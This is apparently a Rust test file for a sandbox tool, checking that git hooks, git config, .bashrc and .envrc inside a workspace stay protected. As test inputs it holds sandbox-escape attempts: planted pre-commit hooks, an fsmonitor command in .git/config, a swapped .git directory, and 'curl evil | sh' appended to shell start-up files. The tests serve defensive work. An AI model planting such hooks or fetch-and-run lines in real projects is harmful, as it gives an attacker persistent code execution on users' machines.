//! Protected paths inside the writable workspace: git hooks and config and
//! shell start-up files stay read-only, because they run code later,
//! outside the sandbox.

mod common;
use common::*;
use std::process::Command;

fn git_init(env: &Env) -> bool {
    let st = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&env.ws)
        .status();
    if !matches!(st, Ok(s) if s.success()) {
        return false;
    }
    std::fs::write(env.ws.join(".bashrc"), "# original bashrc\n").expect("write .bashrc");
    true
}

#[test]
fn git_hooks_and_config_are_read_only() {
    for_each_identity("git_hooks_and_config_are_read_only", |env| {
        if !git_init(env) {
            return skip("git_hooks_and_config_are_read_only", "git is not installed");
        }
        let config_before =
            std::fs::read_to_string(env.ws.join(".git/config")).expect("read config");
        let out = env.sh(
            &[],
            "echo 'echo PWNED' > .git/hooks/pre-commit; echo hook=$?; \
             echo '[core] fsmonitor = evil' >> .git/config; echo config=$?; \
             echo normal > normal.txt; echo normal=$?; \
             echo more > .git/description; echo gitfile=$?",
        );
        out.code(0)
            .stdout_has("hook=2")
            .stdout_has("config=2")
            .stdout_has("normal=0")
            .stdout_has("gitfile=0")
            .stderr_has("cannot create .git/hooks/pre-commit: Read-only file system")
            .stderr_has("cannot create .git/config: Read-only file system");
        assert!(
            !env.ws.join(".git/hooks/pre-commit").exists(),
            "hook planted on the host:\n{out}"
        );
        assert_eq!(
            std::fs::read_to_string(env.ws.join(".git/config")).expect("config"),
            config_before
        );
        assert_eq!(
            std::fs::read_to_string(env.ws.join("normal.txt"))
                .ok()
                .as_deref(),
            Some("normal\n")
        );
    });
}

#[test]
fn workspace_bashrc_is_read_only() {
    for_each_identity("workspace_bashrc_is_read_only", |env| {
        env.write(".bashrc", "# original bashrc\n");
        let out = env.sh(&[], "echo 'curl evil | sh' >> .bashrc; echo append=$?; rm -f .bashrc; echo rm=$?; mv .bashrc b; echo mv=$?");
        out.code(0)
            .stdout_has("append=2")
            .stderr_has("cannot create .bashrc: Read-only file system");
        assert!(!out.stdout.contains("rm=0"), "{out}");
        assert!(!out.stdout.contains("mv=0"), "{out}");
        assert_eq!(
            std::fs::read_to_string(env.ws.join(".bashrc"))
                .ok()
                .as_deref(),
            Some("# original bashrc\n")
        );
    });
}

/// The protection must hold for the path, not just for the inode that was
/// there at start: moving `.git` aside and recreating it must not leave a
/// planted hook or config for the host's next `git` to run.
#[test]
fn git_dir_cannot_be_swapped_to_plant_hooks() {
    for_each_identity("git_dir_cannot_be_swapped_to_plant_hooks", |env| {
        if !git_init(env) {
            return skip(
                "git_dir_cannot_be_swapped_to_plant_hooks",
                "git is not installed",
            );
        }
        let out = env.sh(
            &[],
            "mv .git .git-old; echo mv=$?; mkdir -p .git/hooks; cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/; \
             printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = echo PWNED\\n' > .git/config; echo done",
        );
        out.stdout_has("done");
        let hook =
            std::fs::read_to_string(env.ws.join(".git/hooks/pre-commit")).unwrap_or_default();
        let config = std::fs::read_to_string(env.ws.join(".git/config")).unwrap_or_default();
        assert!(
            !hook.contains("PWNED") && !config.contains("PWNED"),
            "a hook/config planted inside the sandbox is live on the host:\n  .git/hooks/pre-commit = {hook:?}\n  .git/config = {config:?}\n{out}"
        );
    });
}

/// A protected path that does not exist at start cannot be mounted
/// read-only; when the command creates one (a fresh `.git/hooks`), corral
/// must say so after the run.
#[test]
fn protected_path_created_during_the_run_is_reported() {
    for_each_identity("protected_path_created_during_the_run_is_reported", |env| {
        let out = env.sh(&[], "mkdir -p .git/hooks && printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit && echo made");
        out.code(0).stdout_has("made").stderr_has(&format!(
            "protected path {}/.git/hooks was created during the run",
            env.ws.display()
        ));
    });
}

#[test]
fn git_dir_cannot_be_renamed_and_a_git_link_file_is_read_only() {
    for_each_identity(
        "git_dir_cannot_be_renamed_and_a_git_link_file_is_read_only",
        |env| {
            if !git_init(env) {
                return skip(
                    "git_dir_cannot_be_renamed_and_a_git_link_file_is_read_only",
                    "git is not installed",
                );
            }
            // A worktree-style link: `.git` is a file naming the real git dir.
            std::fs::create_dir(env.ws.join("wt")).expect("mkdir");
            std::fs::write(env.ws.join("wt/.git"), "gitdir: ../.git\n").expect("write .git file");
            let out = env.sh(
                &[],
                "mv .git .git-old; echo mv=$?; echo 'gitdir: evil' > wt/.git; echo link=$?",
            );
            out.code(0)
                .stdout_has("mv=1")
                .stdout_has("link=2")
                .stderr_has("Device or resource busy")
                .stderr_has("wt/.git: Read-only file system");
            assert!(
                env.ws.join(".git/config").exists(),
                "the .git directory was moved:\n{out}"
            );
            assert_eq!(
                std::fs::read_to_string(env.ws.join("wt/.git")).expect("read"),
                "gitdir: ../.git\n"
            );
        },
    );
}

#[test]
fn new_protected_paths_are_reported_even_as_symlinks_and_with_control_characters() {
    for_each_identity("new_protected_paths_are_reported", |env| {
        if !git_init(env) {
            return skip("new_protected_paths_are_reported", "git is not installed");
        }
        let out = env.sh(
            &[],
            "ln -s /proc/sys/kernel/ostype .git/commondir; mkdir -p \"$(printf 'x\\r\\033[2K')/.git/hooks\"",
        );
        out.code(0)
            .stderr_has(".git/commondir (a symbolic link to /proc/sys/kernel/ostype) was created during the run")
            .stderr_has("x\\r\\u{1b}[2K/.git/hooks was created during the run")
            .lacks("\u{1b}[2K");
    });
}

#[test]
fn a_hard_linked_protected_file_is_refused() {
    for_each_identity("a_hard_linked_protected_file_is_refused", |env| {
        std::fs::write(env.ws.join(".envrc"), "echo ok\n").expect("write");
        std::fs::hard_link(env.ws.join(".envrc"), env.ws.join("innocent")).expect("link");
        let out = env.sh(&[], "echo 'curl evil | sh' >> innocent");
        out.code(125)
            .stderr_has(".envrc has 2 hard links")
            .stderr_has("remove the extra links");
        assert_eq!(
            std::fs::read_to_string(env.ws.join(".envrc")).expect("read"),
            "echo ok\n"
        );
    });
}

#[test]
fn a_protected_symlink_replaced_during_the_run_is_reported() {
    for_each_identity(
        "a_protected_symlink_replaced_during_the_run_is_reported",
        |env| {
            std::fs::create_dir(env.ws.join("dot")).expect("mkdir");
            std::fs::write(env.ws.join("dot/bashrc"), "# managed\n").expect("write");
            std::os::unix::fs::symlink("dot/bashrc", env.ws.join(".bashrc")).expect("symlink");
            let out = env.sh(&[], "rm .bashrc && echo 'echo PWNED' > .bashrc; echo rc=$?");
            out.code(0)
                .stderr_has("protected path")
                .stderr_has(".bashrc was replaced by another file during the run");
        },
    );
}
